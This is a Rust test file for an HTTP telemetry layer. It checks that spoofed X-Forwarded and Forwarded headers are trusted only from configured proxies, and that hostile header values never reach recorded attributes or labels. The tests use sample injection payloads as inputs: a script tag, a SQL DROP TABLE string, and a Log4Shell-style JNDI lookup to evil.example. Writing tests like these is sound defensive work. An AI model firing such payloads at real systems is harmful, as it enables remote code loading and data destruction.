//! Who a request is from, and what hostile headers make of it: nothing.

use std::collections::BTreeMap;
use std::convert::Infallible;
use std::net::SocketAddr;

use http::{HeaderValue, Response};
use http_body_util::Full;
use otel_http::{ForwardedTrust, HttpServerLayer, PeerAddress};
use testkit::Probe;
use tower::{Layer, service_fn};

use crate::ask::{ask, get};

/// Attributes and labels of a request with these headers, from `10.0.0.1`.
async fn seen(
    trust: ForwardedTrust,
    lines: &[(&'static str, &'static str)],
) -> (BTreeMap<String, String>, BTreeMap<String, String>) {
    let mut probe = Probe::new();
    let layer = HttpServerLayer::builder(probe.telemetry())
        .with_forwarded(trust)
        .build()
        .unwrap();
    let app = layer.layer(service_fn(|_| async {
        Ok::<_, Infallible>(Response::new(Full::<bytes::Bytes>::default()))
    }));
    let mut request = get(&probe, "/");
    let peer: SocketAddr = "10.0.0.1:4711".parse().unwrap();
    request.extensions_mut().insert(PeerAddress::new(peer));
    for (name, value) in lines {
        let value = HeaderValue::from_static(value);
        if *name == "host" {
            request.headers_mut().insert(*name, value);
        } else {
            request.headers_mut().append(*name, value);
        }
    }
    let (_, _, mut seen) = ask(&mut probe, app, request).await;
    assert!(seen.spans[0].repeated.is_empty());
    let labels = seen.durations.swap_remove(0).labels;
    (seen.spans.swap_remove(0).attributes, labels)
}

const SPOOFED: &[(&str, &str)] = &[
    ("x-forwarded-for", "6.6.6.6, 192.0.2.1"),
    ("x-forwarded-proto", "https"),
    ("x-forwarded-host", "shop.example.org"),
    ("forwarded", "for=66.66.66.66;proto=https;host=evil.example"),
];

#[tokio::test]
async fn nobody_is_believed_unasked() {
    let (attributes, labels) = seen(ForwardedTrust::none(), SPOOFED).await;
    assert_eq!(attributes["client.address"], "10.0.0.1");
    assert_eq!(attributes["network.peer.address"], "10.0.0.1");
    assert_eq!(attributes["network.peer.port"], "4711");
    assert_eq!(attributes["server.address"], "shop.example");
    assert_eq!(attributes["url.scheme"], "http");
    assert_eq!(labels["url_scheme"], "http");
}

#[tokio::test]
async fn a_trusted_proxy_is_believed_in_what_it_wrote_itself() {
    for trust in [
        ForwardedTrust::hops(1).unwrap(),
        ForwardedTrust::networks(["10.0.0.0/8"]).unwrap(),
    ] {
        let (attributes, labels) = seen(trust, SPOOFED).await;
        assert_eq!(attributes["client.address"], "192.0.2.1", "not 6.6.6.6");
        assert_eq!(attributes["network.peer.address"], "10.0.0.1");
        assert_eq!(attributes["server.address"], "shop.example.org");
        assert_eq!(attributes["server.port"], "443");
        assert_eq!(labels["url_scheme"], "https");
    }
}

#[tokio::test]
async fn a_stranger_is_no_proxy() {
    let trust = ForwardedTrust::networks(["172.16.0.0/12"]).unwrap();
    let (attributes, _) = seen(trust, SPOOFED).await;
    assert_eq!(attributes["client.address"], "10.0.0.1");
    assert_eq!(attributes["url.scheme"], "http");
}

/// Whatever callers send, a label has a value from a closed set, and an attribute is an address, a
/// host, or absent.
#[tokio::test]
async fn hostile_values_reach_no_label_and_no_attribute() {
    for hostile in [
        "<script>alert(1)</script>",
        "'; DROP TABLE hosts; --",
        "${jndi:ldap://evil.example/a}",
        "a\tb",
        "\"quoted\"",
        "{{7*7}}",
        "a,b,c;d=e",
        "[::1",
        "%00",
    ] {
        for trust in [
            ForwardedTrust::none(),
            ForwardedTrust::hops(1).unwrap(),
            ForwardedTrust::hops(1).unwrap().with_forwarded_header(),
        ] {
            let lines = [
                ("host", hostile),
                ("x-forwarded-for", hostile),
                ("x-forwarded-proto", hostile),
                ("x-forwarded-host", hostile),
                ("forwarded", hostile),
            ];
            let (attributes, labels) = seen(trust, &lines).await;
            let named = attributes.get("server.address");
            // A list of plain names may leave one of them.
            let is_plain = |name: &String| name.len() == 1;
            assert!(named.is_none_or(is_plain), "{hostile}: {named:?}");
            let client = &attributes["client.address"];
            assert_eq!(client, "10.0.0.1", "{hostile}");
            assert_eq!(labels["url_scheme"], "http", "{hostile}");
            let mut values = attributes.values().chain(labels.values());
            assert!(!values.any(|value| value.contains(hostile)), "{hostile}");
        }
    }
}
